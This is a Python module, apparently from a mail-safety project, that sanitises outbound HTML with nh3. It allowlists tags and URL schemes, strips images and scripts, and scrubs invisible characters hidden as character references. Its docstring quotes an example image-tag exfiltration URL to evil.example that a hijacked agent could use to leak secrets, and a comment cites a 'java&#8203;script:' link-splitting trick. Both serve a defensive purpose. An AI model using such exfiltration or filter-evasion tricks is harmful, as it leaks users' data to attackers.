"""Outbound HTML: only for recipients whose allowlist row allows it, and then reduced to text
formatting and links (nh3, the ammonia sanitiser), with no invisible character in any form.

No scripts, frames, forms, embedded objects, SVG or MathML; no event handlers and no inline
styles (CSS ``url()`` and ``expression()`` go with them); links only to http, https, mailto and
tel. No images either: an image URL is the classic way for a hijacked agent to leak data
(``<img src="https://evil.example/?q=<secret>">``) and the recipient's client fetches it
unasked.

HTML can spell an invisible character as a reference (``&#8203;``, ``&#x200B;``, ``&zwnj;``,
``&#917505;``), which a scrub of the raw markup never sees, so nh3's output is read back with
every text node and attribute value decoded, scrubbed like plain text and escaped again.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape
from html.parser import HTMLParser
from urllib.parse import unquote

import nh3

from mailmoat.common.mail.scrub import scrub

TAGS = frozenset(
    {
        "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "div", "dl", "dt", "em",
        "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "q", "s",
        "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
        "thead", "tr", "u", "ul",
    }
)  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title"},
    "abbr": {"title"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
LINK_REL = "noopener noreferrer nofollow"
# Dropped with everything inside them, not just unwrapped.
DROPPED_WITH_CONTENT = frozenset({"script", "style", "template", "noscript", "title", "xmp"})


@dataclass(frozen=True)
class _Tag:
    """A start or end tag of sanitised HTML, its attribute values decoded and scrubbed."""

    name: str
    attributes: tuple[tuple[str, str], ...] = ()
    closing: bool = False


_Piece = _Tag | str
"""A tag, or a text node decoded and scrubbed."""


@dataclass(frozen=True)
class HtmlReading:
    """What a reader of the sanitised HTML meets, decoded and scrubbed, for the keyword filter."""

    joined: str
    """The text with tags breaking no word (``pass<b></b>word`` reads as one)."""
    spaced: str
    """The text with a space at every tag (``one<br>two`` reads as two words)."""
    values: tuple[str, ...]
    """Attribute values (link targets, titles), links also percent-decoded."""


def sanitise_html(html: str) -> str:
    """``html`` reduced to the allowed tags, attributes and URL schemes, with invisible
    characters gone from its text and attributes however they were written."""
    scrubbed = "".join(_written(piece) for piece in _pieces(_clean(html)))
    # The scrub can join a link's scheme back together (``java&#8203;script:`` passes nh3 as a
    # relative link), so what it leaves is sanitised again. That pass brings nothing invisible
    # back: nh3 writes characters as they are, escaping only &, <, >, quotes and no-break space.
    return _clean(scrubbed)


def read_html(html: str) -> HtmlReading:
    """The text and attribute values of ``html`` as sanitising leaves them for the reader."""
    found = _pieces(_clean(html))
    texts = [piece for piece in found if isinstance(piece, str)]
    values = [v for piece in found if isinstance(piece, _Tag) for v in _readable_values(piece)]
    return HtmlReading("".join(texts), " ".join(texts), tuple(values))


def _pieces(clean: str) -> list[_Piece]:
    """nh3's output (well-formed, never the raw draft) as tags and text nodes, every character
    reference decoded and invisible characters scrubbed, in one linear pass."""
    parser = _Tokeniser()
    parser.feed(clean)
    parser.close()
    return parser.pieces


def _clean(html: str) -> str:
    return nh3.clean(
        html,
        tags=set(TAGS),
        clean_content_tags=set(DROPPED_WITH_CONTENT),
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        url_schemes=set(URL_SCHEMES),
        link_rel=LINK_REL,
        strip_comments=True,
    )


class _Tokeniser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.pieces: list[_Piece] = []
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._flush()
        values = tuple((name, scrub(value or "").text) for name, value in attrs)
        self.pieces.append(_Tag(tag, values))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)  # a void element (``<br/>``) has no end tag to add

    def handle_endtag(self, tag: str) -> None:
        self._flush()
        self.pieces.append(_Tag(tag, closing=True))

    def handle_data(self, data: str) -> None:
        self._text.append(data)  # one text node may arrive in pieces

    def close(self) -> None:
        super().close()
        self._flush()

    def _flush(self) -> None:
        text = scrub("".join(self._text)).text
        self._text.clear()
        if text:
            self.pieces.append(text)


def _written(piece: _Piece) -> str:
    if isinstance(piece, str):
        return escape(piece, quote=False)
    if piece.closing:
        return f"</{piece.name}>"
    attributes = "".join(f' {name}="{escape(value)}"' for name, value in piece.attributes)
    # A parser drops one newline straight after <pre>: this one, not the text's own first line.
    after = "\n" if piece.name == "pre" else ""
    return f"<{piece.name}{attributes}>{after}"


def _readable_values(tag: _Tag) -> list[str]:
    # ``rel`` is nh3's own, the same on every link.
    values = [value for name, value in tag.attributes if name != "rel"]
    links = [unquote(value) for name, value in tag.attributes if name == "href"]
    return values + links
